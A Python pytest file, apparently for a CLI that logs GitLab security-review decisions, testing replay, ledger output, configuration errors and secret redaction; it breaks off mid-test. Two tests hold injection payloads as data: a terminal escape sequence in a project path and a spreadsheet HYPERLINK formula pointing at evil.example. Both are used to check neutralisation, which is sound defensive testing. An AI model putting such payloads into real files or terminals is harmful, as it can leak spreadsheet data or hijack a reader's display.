"""The CLI as users run it: real database, real files, documented commands."""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import shlex
import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from sqlalchemy.engine import make_url

from builders import dumps, mr_event
from commandline import run_secledger
from secledger import cli as cli_module
from secledger.cli import DATABASE_UNREACHABLE, demo_files, main, try_it_command
from secledger.config import (
    Settings,
    loose_key_files,
    loose_secret_files,
    overridden_keys,
    unknown_variables,
)
from secledger.errors import ConfigError
from secledger.listener import is_unreachable
from secledger.output import render
from secledger.runtime import Runtime

LEDGER_KEYS = {
    "instance",
    "project_id",
    "mr_iid",
    "mr_id",
    "project_path",
    "title",
    "url",
    "risk_tier",
    "security_labels",
    "state",
    "decision",
    "decided_by",
    "decided_at",
    "reviewer",
    "approvers",
    "assigned_reviewers",
    "labeled_at",
    "labeled_at_source",
    "time_to_decision_seconds",
    "merged_by",
    "merged_at",
    "closed_by",
    "closed_at",
    "last_event_at",
}
DOCS = Path(__file__).resolve().parents[1] / "docs"
README = Path(__file__).resolve().parents[1] / "README.md"


@pytest.fixture
def run(database_url: str, tmp_path: Path):
    runner = CliRunner()
    env = {"SECLEDGER_DATABASE_URL": database_url, "SECLEDGER_DATA_DIR": str(tmp_path / "data")}

    def invoke(*args: str):
        return runner.invoke(main, list(args), env=env, catch_exceptions=False)

    return invoke


def write(tmp_path: Path, name: str, body: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(body)
    return str(path)


def test_replay_prints_one_line_per_file_and_fails_on_a_rejection(run, tmp_path: Path) -> None:
    good = write(tmp_path, "a.json", dumps(mr_event("approved", actor="bob")))
    ignored = write(tmp_path, "b.json", dumps(mr_event("open", labels=["docs"], iid=9)))
    broken = write(tmp_path, "c.json", b"{not json")
    result = run("replay", good, ignored, broken)
    lines = result.output.splitlines()
    assert result.exit_code == 1
    assert lines[0] == f"{good}: recorded seq=1 acme/payments!1 decision=approved"
    assert lines[1] == f"{ignored}: ignored (merge request carries no security label)"
    assert lines[2].startswith(f"{broken}: rejected (400 malformed_json): body is not valid JSON")
    again = run("replay", good)
    assert again.exit_code == 0
    assert again.output.startswith(f"{good}: duplicate seq=1")


def test_replay_shows_terminal_escapes_in_a_project_path_as_replacements(
    run, tmp_path: Path
) -> None:
    """A GitLab project path is a user's text: it must not retitle or clear the terminal
    of whoever replays it (ledger, findings and report tables already replace them)."""
    body = mr_event("approved", actor="bob")
    body["project"]["path_with_namespace"] = "acme/app\x1b]0;PWNED\x07\x1b[2J"
    result = run("replay", write(tmp_path, "e.json", dumps(body)))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "\x07" not in result.output
    assert "acme/app\ufffd]0;PWNED\ufffd\ufffd[2J!1 decision=approved" in result.output


def test_replay_as_system_hook(run, tmp_path: Path) -> None:
    path = write(tmp_path, "s.json", dumps(mr_event(None, changes={})))
    result = run("replay", "--event", "System Hook", path)
    assert result.exit_code == 0
    assert ": recorded seq=1" in result.output


def test_ledger_json_contract(run, tmp_path: Path) -> None:
    files = [
        write(tmp_path, "1.json", dumps(mr_event("open", reviewers=["bob"]))),
        write(
            tmp_path,
            "2.json",
            dumps(
                mr_event(
                    "approved", actor="bob", reviewers=["bob"], updated_at="2025-08-05 22:48:25 UTC"
                )
            ),
        ),
        write(
            tmp_path,
            "3.json",
            dumps(
                mr_event(
                    "merge", actor="alice", reviewers=["bob"], updated_at="2025-08-05 23:00:00 UTC"
                )
            ),
        ),
    ]
    assert run("replay", *files).exit_code == 0
    result = run("ledger", "--format", "json")
    rows = json.loads(result.output)
    assert len(rows) == 1
    row = rows[0]
    assert row.keys() >= LEDGER_KEYS
    expected = {
        "instance": "https://gitlab.example.com",
        "project_id": 14,
        "mr_iid": 1,
        "mr_id": 1001,
        "project_path": "acme/payments",
        "risk_tier": "high",
        "security_labels": ["sec::high"],
        "state": "merged",
        "decision": "merged",
        "decided_by": "alice",
        "decided_at": "2025-08-05T23:00:00Z",
        "reviewer": "bob",
        "approvers": ["bob"],
        "assigned_reviewers": ["bob"],
        "labeled_at": "2025-08-05T20:00:00Z",
        "labeled_at_source": "opened_with_label",
        "time_to_decision_seconds": 3 * 3600.0,
        "merged_by": "alice",
        "merged_at": "2025-08-05T23:00:00Z",
        "closed_by": None,
        "closed_at": None,
        "last_event_at": "2025-08-05T23:00:00Z",
    }
    assert {key: row[key] for key in expected} == expected


def test_ledger_csv_has_a_header_and_one_line_per_mr(run, tmp_path: Path) -> None:
    run("replay", write(tmp_path, "1.json", dumps(mr_event("open"))))
    lines = run("ledger", "--format", "csv").output.splitlines()
    assert lines[0].startswith("instance,project_id,mr_iid,")
    assert len(lines) == 2


def test_demo_replays_the_bundled_history(run) -> None:
    result = run("demo", "--no-serve")
    assert result.exit_code == 0
    assert f"replaying {len(demo_files())} sample deliveries" in result.output
    assert "security_review_ledger (5 rows)" in result.output
    rows = json.loads(run("ledger", "--format", "json").output)
    by_iid = {row["mr_iid"]: row for row in rows}
    assert by_iid[12]["approvers"] == ["bob"]
    assert by_iid[12]["labeled_at_source"] == "label_added"
    assert by_iid[16]["risk_tier"] == "critical"
    assert 15 not in by_iid
    # MR 12's first delivery was ignored (no label yet): a second demo, which would
    # record it now that MR 12 is known, does not replay the history again.
    again = run("demo", "--no-serve")
    assert again.exit_code == 0, again.output
    assert "the sample history is not replayed again" in again.output
    assert json.loads(run("ledger", "--format", "json").output) == rows


def test_demo_curl_command_pastes_as_one_command(tmp_path: Path) -> None:
    """The printed command spans two lines; without the backslash the shell runs two."""
    secret_file = tmp_path / "webhook-secret"
    printed = try_it_command(8080, secret_file, demo_files()[0])
    # The shell ends a command at a newline unless a backslash continues it.
    first_command = printed.replace("\\\n", " ").splitlines()[0]
    words = shlex.split(first_command)
    assert words[0] == "curl"
    assert words[-3:] == [
        "--data-binary",
        f"@{demo_files()[0]}",
        "http://127.0.0.1:8080/webhooks/gitlab",
    ]
    assert words[words.index("-H", 3) + 1] == f"X-Gitlab-Token: $(cat {secret_file})"


def test_serve_refuses_to_start_without_a_secret(run) -> None:
    result = CliRunner().invoke(main, ["serve"], env={"SECLEDGER_WEBHOOK_SECRETS": ""})
    assert result.exit_code == 1
    assert "no webhook secret configured" in result.output


@pytest.mark.parametrize(
    ("where", "message"),
    [
        ("SECLEDGER_DATA_DIR", "cannot keep a generated secret in"),
        ("SECLEDGER_SPOOL_DIR", "cannot use spool directory"),
    ],
)
def test_serve_refuses_a_directory_it_cannot_write_before_anything_starts(
    tmp_path: Path, where: str, message: str
) -> None:
    """A read-only root file system (as SECURITY.md recommends) gave a traceback after
    "serve_receiving"; a path through a plain file fails the same way, even for root."""
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    env = {
        "SECLEDGER_WEBHOOK_SECRETS": "s3cret",
        "SECLEDGER_DATABASE_URL": "postgresql://nobody@127.0.0.1:1/never",
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        where: str(blocker / "below"),
    }
    secledger = Path(sys.executable).with_name("secledger")
    result = subprocess.run(
        [str(secledger), "serve", "--port", "0"],
        env={"PATH": os.environ["PATH"], **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1, result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert "serve_receiving" not in result.stderr


def test_serve_open_mode_is_loopback_only() -> None:
    result = CliRunner().invoke(
        main, ["serve", "--allow-open", "--host", "0.0.0.0"], env={"SECLEDGER_WEBHOOK_SECRETS": ""}
    )
    assert result.exit_code == 1
    assert "only allowed on a loopback address" in result.output


def test_open_mode_beside_webhook_sources_is_loopback_only_too(tmp_path: Path) -> None:
    """A [[webhook_sources]] entry is a credential for its own instance only: the
    default source still took deliveries without any, on every address."""
    config = tmp_path / "secledger.toml"
    config.write_text(
        'allow_open_loopback = true\n[[webhook_sources]]\ninstance = "https://gitlab.partner.org"'
        '\ntokens = ["partner-token"]\n'
    )
    env = {
        "SECLEDGER_CONFIG": str(config),
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        # Were the check missed, serve would stop at this database, not serve forever.
        "SECLEDGER_DATABASE_URL": f"postgresql://x@127.0.0.1:{_unused_port()}/x",
    }
    for args in (["--host", "0.0.0.0"], ["--host", "0.0.0.0", "--allow-open"]):
        result = CliRunner().invoke(main, ["serve", "--port", "0", *args], env=env)
        assert result.exit_code == 1, result.output
        assert "only allowed on a loopback address" in result.output
        assert "serve_receiving" not in result.output


def test_csv_text_a_spreadsheet_would_run_gets_an_apostrophe_numbers_do_not() -> None:
    """``--format csv`` of ledger, findings and reports: titles and names come from
    GitLab users; a negative number is still a number."""
    rows = [{"title": "=1+2", "approvers": ["@ops", "bob"], "hours": -1.5, "note": "-x"}]
    text = render(rows, "csv", ["title", "approvers", "hours", "note"])
    assert text is not None
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1+2", "'@ops, bob", "-1.5", "'-x"]
    assert render([{"title": "Fix = sign"}], "csv", ["title"]) == "title\r\nFix = sign\r\n"


def test_csv_text_a_semicolon_spreadsheet_would_split_into_a_formula_is_quoted() -> None:
    """Spreadsheets in much of Europe split CSV lines at ";", quotes or not: a title such
    as ``Fix;=HYPERLINK(...)`` ran its second part as a formula there. An apostrophe
    after the ";" makes it text."""
    rows = [{"title": 'Fix login;=HYPERLINK("https://evil.example/?"&A2);', "iid": 7}]
    text = render(rows, "csv", ["iid", "title"])
    assert text is not None
    [_, line] = text.splitlines()
    as_semicolon_list = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert not any(cell.startswith("=") for cell in as_semicolon_list), as_semicolon_list
    expected = 'Fix login;\'=HYPERLINK("https://evil.example/?"&A2);'
    assert list(csv.reader(io.StringIO(text)))[1] == ["7", expected]
    plain = render([{"title": "a;b; c;-", "iid": 8}], "csv", ["iid", "title"])
    assert plain == "iid,title\r\n8,a;b; c;'-\r\n"


def test_invalid_configuration_is_a_clear_error(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_PORT": "not-a-port"})
    assert result.exit_code == 1
    assert "invalid configuration" in result.output
    broken = tmp_path / "secledger.toml"
    broken.write_text("port = [1,\n")
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_CONFIG": str(broken)})
    assert result.exit_code == 1
    assert f"invalid configuration: {broken} is not TOML: " in result.output


@pytest.mark.parametrize(
    ("env", "message"),
    [
        (
            {"SECLEDGER_RISK_TIERS": "high,HIGH"},
            "risk_tiers has a tier twice (tier names ignore case)",
        ),
        ({"SECLEDGER_METRICS_REQUIRE_AUTH": "true"}, "metrics_require_auth needs read_token"),
        (
            {"SECLEDGER_METRICS_REQUIRE_AUTH": "true", "SECLEDGER_READ_TOKEN": ""},
            "metrics_require_auth needs read_token",
        ),
    ],
)
def test_settings_that_cannot_work_together_are_refused(env, message) -> None:
    result = CliRunner().invoke(main, ["ledger"], env=env)
    assert result.exit_code == 1
    assert message in result.output


def test_metrics_behind_a_proxy_that_authenticates_the_scraper_need_no_token() -> None:
    settings = Settings(metrics_require_auth=True, trusted_user_header="X-Forwarded-User")
    assert settings.read_token is None


def test_a_key_file_others_may_read_is_found(tmp_path: Path) -> None:
    """The GitLab token and the checkpoint key have file settings of their own, outside
    the generic ``SECLEDGER_<NAME>_FILE`` check: they are checked too."""
    token = tmp_path / "gitlab-token"
    token.write_text("glpat-x\n")
    token.chmod(0o644)
    key = tmp_path / "checkpoint.pem"
    key.write_text("k")
    key.chmod(0o600)
    settings = Settings(gitlab_token_file=token, checkpoint_key_file=key)
    assert loose_key_files(settings) == [("SECLEDGER_GITLAB_TOKEN_FILE", 0o644)]
    key.chmod(0o640)
    assert [name for name, _ in loose_key_files(settings)][1:] == ["SECLEDGER_CHECKPOINT_KEY_FILE"]


def test_a_webhook_sources_secret_file_others_may_read_is_found(tmp_path: Path) -> None:
    """``tokens_file`` and ``signing_secrets_file`` in ``[[webhook_sources]]`` hold webhook
    secrets as much as ``SECLEDGER_WEBHOOK_SECRETS_FILE`` does."""
    tokens = tmp_path / "partner-tokens"
    tokens.write_text("partner-token\n")
    tokens.chmod(0o644)
    signing = tmp_path / "partner-signing"
    signing.write_text("whsec_" + "A" * 32 + "\n")
    signing.chmod(0o600)
    sources = [
        {"instance": "https://a.example", "tokens": ["t"]},
        {
            "instance": "https://b.example",
            "tokens_file": str(tokens),
            "signing_secrets_file": str(signing),
        },
    ]
    settings = Settings(webhook_sources=sources)
    assert loose_key_files(settings) == [("webhook_sources[1].tokens_file", 0o644)]
    signing.chmod(0o604)
    assert [name for name, _ in loose_key_files(settings)] == [
        "webhook_sources[1].tokens_file",
        "webhook_sources[1].signing_secrets_file",
    ]


def test_secret_files_is_not_a_webhook_sources_key() -> None:
    with pytest.raises(ConfigError, match="unknown key secret_files"):
        Settings(webhook_sources=[{"instance": "https://a.example", "secret_files": {}}])


def test_a_password_with_an_unencoded_at_sign_is_refused_without_echoing_it() -> None:
    """``p@SECRETX`` made ``SECRETX@127.0.0.1`` the host, printed in every message."""
    for name in ("SECLEDGER_DATABASE_URL", "SECLEDGER_MIGRATION_DATABASE_URL"):
        url = "postgresql://postgres:p@SECRETX@127.0.0.1:5432/db"
        result = CliRunner().invoke(main, ["ledger"], env={name: url})
        assert result.exit_code == 1
        assert "has an @ in its user name or password: write it as %40" in result.output
        assert "SECRETX" not in result.output
    encoded = "postgresql://postgres:p%40SECRETX@127.0.0.1:5432/db"
    assert Settings(database_url=encoded).database_url is not None


def test_a_database_url_of_another_kind_is_a_configuration_error() -> None:
    """Not a driver's import error at the first connection; and never the password."""
    for name in ("SECLEDGER_DATABASE_URL", "SECLEDGER_MIGRATION_DATABASE_URL"):
        result = CliRunner().invoke(main, ["ledger"], env={name: "mysql://u:hunter2@db/x"})
        assert result.exit_code == 1
        assert "must be a PostgreSQL URL" in result.output
        assert "hunter2" not in result.output


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("sslmode=requir", "has sslmode=requir; use one of disable, allow, prefer"),
        ("target_session_attrs=rw", "has target_session_attrs=rw; use one of any"),
        ("ssl_mode=require", 'not a valid PostgreSQL URL: invalid URI query parameter: "ssl_mode"'),
        ("keepalives_idle=soon", "has keepalives_idle='soon'; it takes a whole number"),
        ("keepalives_idle=99999999999", "has keepalives_idle='99999999999'; it takes a whole"),
    ],
)
def test_a_database_url_option_libpq_would_refuse_is_a_configuration_error(
    query: str, message: str
) -> None:
    """libpq checks these only when it connects: a typo was exit 3, "cannot reach the
    database" (the outage status), or a traceback."""
    url = f"postgresql+psycopg://u:hunter2@127.0.0.1:1/x?connect_timeout=1&{query}"
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_DATABASE_URL": url})
    assert result.exit_code == 1, result.output
    assert "invalid configuration: database_url" in result.output
    assert message in result.output
    assert "hunter2" not in result.output


def test_a_signed_number_libpq_reads_is_not_refused() -> None:
    """``+10`` is a number to libpq: refused, a working URL would not start."""
    url = "postgresql://u@127.0.0.1:1/x?connect_timeout=%2B1"
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_DATABASE_URL": url})
    assert "invalid configuration" not in result.output


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://u:hunter2%zz@db/x",
        "postgresql://u@db/x?password=hunter2%zz",
        "postgresql://u@db/x?sslmode=require&password=hunter2 x",
        "postgresql://u@db/x?sslpassword=hunter2%zz",
    ],
)
def test_a_database_url_that_libpq_cannot_parse_never_shows_its_password(url: str) -> None:
    """libpq quotes what it could not read: a password in the userinfo or an option."""
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_DATABASE_URL": url})
    assert result.exit_code == 1, result.output
    assert "not a valid PostgreSQL URL: it cannot be parsed" in result.output
    assert "hunter2" not in result.output


def test_several_hosts_in_the_authority_are_refused_with_the_form_that_works() -> None:
    """libpq's h1:p1,h2:p2 cannot pass the URL parser in front of it; the query form can."""
    url = "postgresql://app:hunter2@db1:5432,db2:5432/ledger"
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_DATABASE_URL": url})
    assert result.exit_code == 1, result.output
    assert "for several hosts, name them in the query:" in result.output
    assert "hunter2" not in result.output


def test_two_forms_of_several_hosts_mixed_are_refused_without_a_traceback() -> None:
    """SQLAlchemy takes ``host=h1:p1&host=h2:p2`` or ``host=h1,h2&port=p1,p2``, not both."""
    url = "postgresql://app:hunter2@/ledger?host=db1&host=db2&port=5432"
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_DATABASE_URL": url})
    # A ConfigError: ``cli.run`` prints it as one line and exits 1.
    assert isinstance(result.exception, ConfigError), result.exception
    message = str(result.exception)
    assert message.startswith("the database URL is refused: Can't mix 'multihost' formats")
    assert "hunter2" not in message


def test_a_misspelt_setting_is_named_not_ignored_in_silence() -> None:
    environ = {
        "SECLEDGER_SPOOL_DIRR": "/srv/spool",
        "SECLEDGER_WEBHOOK_SECRETZ": "s3cret",
        "SECLEDGER_WEBHOOK_SECRETS_FILE": "/run/secrets/hook",  # a secret's file: a setting
        "SECLEDGER_CONFIG": "/etc/secledger.toml",
        "SECLEDGER_PORT": "8080",
        "HOME": "/root",
    }
    assert unknown_variables(Settings, environ) == [
        ("SECLEDGER_SPOOL_DIRR", "SECLEDGER_SPOOL_DIR"),
        ("SECLEDGER_WEBHOOK_SECRETZ", "SECLEDGER_WEBHOOK_SECRETS"),
    ]


def test_a_config_file_key_the_environment_hides_is_named(tmp_path: Path) -> None:
    """The environment wins: an edit of the file (gitlab connect adds a secret there)
    changed nothing, and nothing said so. Names only, never values."""
    config = tmp_path / "secledger.toml"
    config.write_text('webhook_secrets = ["from-file"]\nport = 8081\nmax_batch = 64\n')
    environ = {
        "SECLEDGER_CONFIG": str(config),
        "SECLEDGER_WEBHOOK_SECRETS_FILE": "/run/secrets/hook",
        "secledger_port": "8080",
    }
    assert overridden_keys(environ) == [
        ("port", "SECLEDGER_PORT"),
        ("webhook_secrets", "SECLEDGER_WEBHOOK_SECRETS_FILE"),
    ]
    # Not read by the settings, so hiding nothing: a _FILE in another case or empty, and
    # a _FILE of a setting that is no secret.
    unread = {
        "SECLEDGER_CONFIG": str(config),
        "secledger_webhook_secrets_file": "/run/secrets/hook",
        "SECLEDGER_PORT_FILE": "/run/port",
        "SECLEDGER_MAX_BATCH_FILE": "",
    }
    assert overridden_keys(unread) == []


def test_a_command_logs_each_config_key_the_environment_hides(tmp_path: Path) -> None:
    config = tmp_path / "secledger.toml"
    config.write_text('webhook_secrets = ["from-file"]\n')
    done = run_secledger(
        "spool",
        "status",
        SECLEDGER_CONFIG=str(config),
        SECLEDGER_WEBHOOK_SECRETS="s3cret-9c2",
        SECLEDGER_DATA_DIR=str(tmp_path / "data"),
    )
    assert done.returncode == 0, done.stderr
    [line] = [json.loads(x) for x in done.stderr.splitlines() if "overridden" in x]
    assert (line["event"], line["key"], line["variable"]) == (
        "config_file_key_overridden",
        "webhook_secrets",
        "SECLEDGER_WEBHOOK_SECRETS",
    )
    assert "s3cret-9c2" not in done.stderr and "from-file" not in done.stderr


def test_a_secret_file_others_may_read_is_named(tmp_path: Path) -> None:
    loose, tight = tmp_path / "loose", tmp_path / "tight"
    for path, mode in ((loose, 0o644), (tight, 0o400)):
        path.write_text("s3cret\n")
        path.chmod(mode)
    environ = {
        "SECLEDGER_WEBHOOK_SECRETS_FILE": str(loose),
        "SECLEDGER_READ_TOKEN_FILE": str(tight),
        "SECLEDGER_SESSION_SECRET_FILE": str(tmp_path / "missing"),  # reading it will say
    }
    assert loose_secret_files(Settings, environ) == [("SECLEDGER_WEBHOOK_SECRETS_FILE", 0o644)]


def test_help_works_with_a_broken_configuration() -> None:
    # Help is what someone reaches for to fix the configuration.
    broken = {"SECLEDGER_PORT": "not-a-port"}
    for args in (["serve", "--help"], ["spool", "status", "--help"], ["--help"]):
        result = CliRunner().invoke(main, args, env=broken)
        assert result.exit_code == 0, (args, result.output)
        assert "Usage:" in result.output
    # The error still comes as soon as a command runs.
    result = CliRunner().invoke(main, ["spool", "status"], env=broken)
    assert result.exit_code == 1
    assert "invalid configuration" in result.output


def all_commands(group: click.Group, prefix: str = "secledger") -> list[tuple[str, click.Command]]:
    found: list[tuple[str, click.Command]] = []
    for name, command in sorted(group.commands.items()):
        path = f"{prefix} {name}"
        found.append((path, command))
        if isinstance(command, click.Group):
            found.extend(all_commands(command, path))
    return found


@pytest.mark.parametrize(("path", "command"), all_commands(main), ids=str)
def test_every_command_has_help_with_an_example_and_docs(path: str, command: click.Command) -> None:
    words = path.split()[1:]
    result = CliRunner().invoke(main, [*words, "--help"])
    assert result.exit_code == 0
    assert "Example" in result.output, f"{path} --help has no example"
    documented = README.read_text() + "".join(p.read_text() for p in DOCS.glob("*.md"))
    assert f"`{path}" in documented, f"{path} is not documented in README.md or docs/"


@pytest.mark.parametrize("name", sorted(Settings.model_fields))
def test_every_setting_is_documented(name: str) -> None:
    documented = README.read_text() + "".join(p.read_text() for p in DOCS.glob("*.md"))
    variable = f"SECLEDGER_{name.upper()}"
    assert variable in documented or f"`{name}`" in documented or f"{name} =" in documented, (
        f"{variable} is not documented in README.md or docs/"
    )


def test_an_unreachable_database_is_one_line_and_its_own_exit_status(tmp_path: Path) -> None:
    """Not a traceback, and not exit 1, which verify and reconcile give their findings:
    a scheduled job can tell an outage from tampering."""
    port = _unused_port()
    env = {
        "PATH": os.environ["PATH"],
        "SECLEDGER_DATABASE_URL": f"postgresql://app:pw-9f3@127.0.0.1:{port}/x?connect_timeout=5",
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        "SECLEDGER_WEBHOOK_SECRETS": "a-webhook-secret",
    }
    # serve, too: reached before it says it is receiving, not uvicorn's start-up traceback.
    serve = ["serve", "--port", str(_unused_port())]
    for args in (["ledger"], ["verify"], serve):
        done = subprocess.run(
            [str(Path(sys.executable).parent / "secledger"), *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == DATABASE_UNREACHABLE, done.stderr
        last = done.stderr.strip().splitlines()[-1]
        assert last.startswith("Error: cannot reach the database: connection failed")
        assert "Traceback" not in done.stderr
        assert "serve_receiving" not in done.stderr
        assert "pw-9f3" not in done.stderr


@pytest.mark.parametrize("wrong", ["database", "user"])
def test_a_login_the_server_refuses_is_a_configuration_error_not_an_outage(
    tmp_path: Path, database_url: str, wrong: str
) -> None:
    """The server answered: no such database or user is not something to wait out, and
    exit 3 told a scheduled job it was an outage."""
    url = make_url(database_url)
    url = (
        url.set(database="secledger_no_such_db")
        if wrong == "database"
        else url.set(username="secledger_no_such_user")
    )
    env = {
        "PATH": os.environ["PATH"],
        "SECLEDGER_DATABASE_URL": url.render_as_string(hide_password=False),
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
    }
    done = subprocess.run(
        [str(Path(sys.executable).parent / "secledger"), "ledger"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: the database refused the login: connection failed")
    assert "does not exist" in last


def test_tls_the_server_does_not_offer_is_a_configuration_error_not_an_outage(
    tmp_path: Path,
) -> None:
    """sslmode=require against a server without TLS: waiting will not change either, and
    exit 3 told a scheduled job to try again. The server here answers PostgreSQL's
    SSLRequest with "N", as one built without TLS does."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]

        def refuse_tls() -> None:
            for _ in range(2):  # libpq may try twice (IPv4, then once more)
                try:
                    conn, _ = server.accept()
                except OSError:
                    return
                with conn:
                    conn.recv(8)
                    conn.sendall(b"N")

        thread = threading.Thread(target=refuse_tls, daemon=True)
        thread.start()
        done = run_secledger(
            "ledger",
            SECLEDGER_DATABASE_URL=f"postgresql://u:pw-4d1@127.0.0.1:{port}/x?sslmode=require",
            SECLEDGER_DATA_DIR=str(tmp_path / "data"),
        )
    assert done.returncode == 1, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: the database connection's TLS settings failed:")
    assert "server does not support SSL" in last
    assert "pw-4d1" not in done.stderr


@pytest.mark.parametrize(("command", "lowest"), [("serve", 0), ("demo", 1)])
def test_a_port_out_of_range_is_a_usage_error(command: str, lowest: int) -> None:
    """Not wrapped around by the socket layer (70000 bound port 4464). `demo` prints
    the URLs to open, which a port the system picks (0) would not name."""
    result = CliRunner().invoke(main, [command, "--port", "70000"])
    assert result.exit_code == 2
    assert f"70000 is not in the range {lowest}<=x<=65535" in result.output
    if lowest:
        picked = CliRunner().invoke(main, [command, "--port", "0"])
        assert picked.exit_code == 2
        assert "0 is not in the range 1<=x<=65535" in picked.output


def test_a_port_in_use_is_one_line_before_the_database(tmp_path: Path) -> None:
    """Refused before the database is touched (its URL here reaches nothing), with the
    address and the reason; not uvicorn's line after "serve_receiving", nor exit 3."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = _serve_without_a_database(tmp_path, port)
    assert done.returncode == 1, done.stderr
    assert done.stderr.strip().splitlines()[-1] == (
        f"Error: cannot listen on 127.0.0.1:{port}: Address already in use"
    )
    assert "database" not in done.stderr
    assert "serve_receiving" not in done.stderr


def test_a_second_receiver_on_the_port_is_refused_even_when_both_start_at_once() -> None:
    """With SO_REUSEADDR two sockets may both bind a port while neither listens: the
    second serve then ran, said it was receiving, and received nothing."""
    first = cli_module._listen("127.0.0.1", 0)
    port = first[0].getsockname()[1]
    try:
        with pytest.raises(click.ClickException, match="Address already in use"):
            cli_module._listen("127.0.0.1", port)
    finally:
        for sock in first:
            sock.close()


def test_a_token_file_that_cannot_be_read_is_refused_before_the_database(tmp_path: Path) -> None:
    """Read when the background lookups would start; before, it was uvicorn's traceback
    after "serve_receiving", and exit 3 as if the database were down."""
    done = _serve_without_a_database(
        tmp_path,
        _unused_port(),
        SECLEDGER_GITLAB_URL="https://gitlab.example.com",
        SECLEDGER_GITLAB_TOKEN_FILE=str(tmp_path / "missing-token"),
    )
    assert done.returncode == 1, done.stderr
    assert done.stderr.strip().splitlines() == [
        f"Error: SECLEDGER_GITLAB_TOKEN_FILE: cannot read {tmp_path / 'missing-token'}:"
        " No such file or directory"
    ]


def test_a_gitlab_token_that_cannot_be_a_header_is_refused_without_showing_it(
    tmp_path: Path,
) -> None:
    """A newline or a byte beyond ASCII ended every API command in a traceback, one
    that printed the token."""
    result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_GITLAB_TOKEN": "glpat-LEAK\nx"})
    assert result.exit_code == 1
    assert "invalid configuration: gitlab_token" in result.output
    assert "LEAK" not in result.output
    token = tmp_path / "token"
    token.write_bytes(b"glpat-LEAK\xe9x\n")
    settings = Settings(gitlab_token_file=token)
    with pytest.raises(ConfigError, match="first line must be printable ASCII") as caught:
        settings.gitlab_token_value()
    assert "LEAK" not in str(caught.value)
    token.write_bytes(b"  glpat-fine  \nsecond line\n")
    assert settings.gitlab_token_value() == "glpat-fine"


@pytest.mark.parametrize(
    ("setting", "value", "message"),
    [
        (
            "SECLEDGER_USERS",
            "alice:not-a-hash",
            "user 'alice' in SECLEDGER_USERS: a user's password hash is not scrypt",
        ),
        ("SECLEDGER_TRUSTED_PROXIES", "notanip", "trusted_proxies:"),
    ],
)
def test_a_bad_dashboard_setting_is_refused_before_receiving(
    tmp_path: Path, database_url: str, setting: str, value: str, message: str
) -> None:
    """Refused after "serve_receiving" was printed, it looked like a crash of a started
    receiver. The database answers: without it, start-up stops before either."""
    done = _serve_without_a_database(
        tmp_path, _unused_port(), SECLEDGER_DATABASE_URL=database_url, **{setting: value}
    )
    assert done.returncode == 1, done.stderr
    assert "serve_receiving" not in done.stderr
    assert message in done.stderr.strip().splitlines()[-1]


def _serve_without_a_database(
    tmp_path: Path, port: int, **extra: str
) -> subprocess.CompletedProcess[str]:
    """``secledger serve`` as users run it, with a database URL that reaches nothing."""
    env = {
        "PATH": os.environ["PATH"],
        "SECLEDGER_DATABASE_URL": f"postgresql://app@127.0.0.1:{_unused_port()}/x",
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        "SECLEDGER_WEBHOOK_SECRETS": "a-webhook-secret",
        **extra,
    }
    return subprocess.run(
        [str(Path(sys.executable).parent / "secledger"), "serve", "--port", str(port)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_a_start_up_failure_of_the_receiver_is_not_called_an_outage(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uvicorn exits 3 when the application's start-up fails; 3 is secledger's status for
    an unreachable database, which this is not."""

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a start-up failure")

    monkeypatch.setattr(Runtime, "open", broken)
    env = {
        "SECLEDGER_DATABASE_URL": database_url,
        "SECLEDGER_DATA_DIR": str(tmp_path / "data"),
        "SECLEDGER_WEBHOOK_SECRETS": "a-webhook-secret",
    }
    # serve tunes the process (signals, collector, switch interval): put back after.
    handler, thresholds, interval = (
        signal.getsignal(signal.SIGTERM),
        gc.get_threshold(),
        sys.getswitchinterval(),
    )
    try:
        result = CliRunner().invoke(main, ["serve", "--port", str(_unused_port())], env=env)
    finally:
        signal.signal(signal.SIGTERM, handler)
        gc.unfreeze()
        gc.set_threshold(*thresholds)
        sys.setswitchinterval(interval)
    assert result.exit_code == 1, result.output
    assert "Error: the receiver did not start; the log says why" in result.output


def _unused_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_only_a_connection_failure_is_called_unreachable() -> None:
    """A lock timeout or a full disk is an OperationalError too, but no outage to wait out."""

    class Failed(Exception):
